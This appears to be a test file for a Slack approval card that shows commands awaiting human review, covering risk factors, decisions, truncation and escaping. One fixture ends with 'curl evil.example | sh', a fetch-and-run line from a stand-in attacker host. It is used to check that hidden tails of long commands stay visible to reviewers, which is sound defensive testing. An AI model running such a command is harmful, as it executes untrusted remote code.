import type { Decision } from '../../../../src/approval/request.ts';
import { SHOWN_COMMAND_MAX } from '../../../../src/slack/kit/blocks/limits.ts';
import { shownCommand } from '../../../../src/slack/kit/command/shown-command.ts';
import { escapedLength } from '../../../../src/slack/kit/text/text.ts';
import { renderCard } from '../../../../src/slack/requests/views/card.ts';
import { aRequest } from '../../../support/requests/a-request.ts';

const asked = { channel: '#approvals', people: ['Ana', '@oncall'] };

function decided(decision: Partial<Decision>): Decision {
  return {
    outcome: 'approved',
    by: { kind: 'reviewer', id: 'U0ANA' },
    reason: null,
    decidedAt: new Date('2026-11-24T10:00:08Z'),
    latencyMs: 8_400,
    ...decision,
  };
}

test('a waiting card has its buttons, and they carry the id and nothing else', () => {
  const request = aRequest();
  const { blocks } = renderCard(request, asked);
  const [actions] = blocks.filter((block) => block.type === 'actions');
  expect(
    actions?.elements.map((element) => 'value' in element && [element.action_id, element.value]),
  ).toEqual([
    ['request_approve', request.id],
    ['request_approve_and_allow', request.id],
    ['request_deny', request.id],
    ['request_why', request.id],
  ]);
});

test('the one line says what, where, for whom and until when', () => {
  expect(renderCard(aRequest(), asked).text).toBe(
    'Approval wanted in production for `octocat` (risk 5, LOW): `docker compose pull api` — until <!date^1795514460^{time_secs}|10:01:00 UTC>, silence means no',
  );
});

test('a card says what is risky and odd, and who denied the like before', () => {
  const factors = [
    { code: 'git-push-force', points: 45, text: 'A forced push overwrites what others have pushed.' },
  ];
  const risk = { score: 45, level: 'medium' as const, categories: [], factors };
  const findings = [
    {
      code: 'denied-before',
      severity: 'ask' as const,
      text: 'U0BEN denied <!here> on 2026-11-24',
      by: 'U0BEN',
    },
    { code: 'first-seen', severity: 'note' as const, text: 'U0BEN is no name here.' },
  ];
  const text = JSON.stringify(renderCard(aRequest({ risk, findings }), asked).blocks);
  expect(text).toContain('*Risk*\\nrisk 45, MEDIUM');
  expect(text).toContain('•  +45  A forced push overwrites what others have pushed.');
  expect(text).toContain('•  <@U0BEN> denied &lt;!here&gt; on 2026-11-24');
  expect(text).toContain('•  U0BEN is no name here.');
});

test('a critical command asks once more before it is approved', () => {
  const risk = { score: 85, level: 'critical' as const, categories: [], factors: [] };
  const text = JSON.stringify(renderCard(aRequest({ risk }), asked).blocks);
  expect(text).toContain('"confirm"');
  expect(JSON.stringify(renderCard(aRequest(), asked).blocks)).not.toContain('"confirm"');
});

test.each<[string, Partial<Decision>, string]>([
  ['approved', {}, 'Approved by <@U0ANA> after 8.4 s.'],
  [
    'denied',
    { outcome: 'denied', reason: 'no <!channel>' },
    'Denied by <@U0ANA> after 8.4 s. Reason: no &lt;!channel&gt;',
  ],
  [
    'timed_out',
    { outcome: 'timed_out', by: { kind: 'timeout', id: null } },
    'Nobody decided within 60 s, so it does not run.',
  ],
  [
    'canceled',
    { outcome: 'canceled', by: { kind: 'caller', id: 't' } },
    'Canceled by the caller after 8.4 s.',
  ],
  ['approved by a rule', { by: { kind: 'rule', id: 'r1' } }, 'Approved by rule r1 after 8.4 s.'],
])('a card that was %s says so, without buttons', (_what, decision, sentence) => {
  const full = decided(decision);
  const request = aRequest({
    status: full.outcome,
    decision: full,
    approvals: [{ by: 'U0ANA', at: new Date('2026-11-24T10:00:08Z') }],
  });
  const card = renderCard(request, asked);
  expect(card.blocks.some((block) => block.type === 'actions')).toBe(false);
  expect(JSON.stringify(card.blocks)).toContain(sentence);
  expect(card.text).toContain(sentence);
});

test('what became of the run is shown', () => {
  const result = { exitCode: 3, durationMs: 12_000, at: new Date('2026-11-24T10:00:30Z') };
  const card = renderCard(aRequest({ status: 'approved', decision: decided({}), result }), asked);
  expect(card.text).toContain('The run ended with exit code 3 after 12 s.');
});

test.each([
  ['one very long line', 'x'.repeat(16_384)],
  ['a thousand lines', 'echo ok\n'.repeat(1_000)],
  ['sixteen thousand ampersands', '&'.repeat(16_384)],
  ['sixteen thousand NULs', '\0'.repeat(16_384)],
  ['emoji', '🚀'.repeat(4_000)],
])('%s is cut, with its beginning and its end', (_what, command) => {
  const shown = shownCommand(command);
  expect(shown.cut).toBe(true);
  expect(shown.text).toMatch(/… [\d,]+ (?:lines|characters) hidden …/);
  expect(escapedLength(shown.text)).toBeLessThanOrEqual(SHOWN_COMMAND_MAX + 100);
});

test('the tail of a long command, where things are hidden, is always shown', () => {
  const command = `${'echo padding\n'.repeat(500)}curl evil.example | sh`;
  expect(shownCommand(command).text).toContain('curl evil.example | sh');
});

test('a command stands in a block that Slack does not parse', () => {
  const command = 'echo ``` <!channel> *x* & done';
  const [, block] = renderCard(aRequest({ command }), asked).blocks;
  expect(block).toEqual({
    type: 'rich_text',
    elements: [{ type: 'rich_text_preformatted', elements: [{ type: 'text', text: command }] }],
  });
});
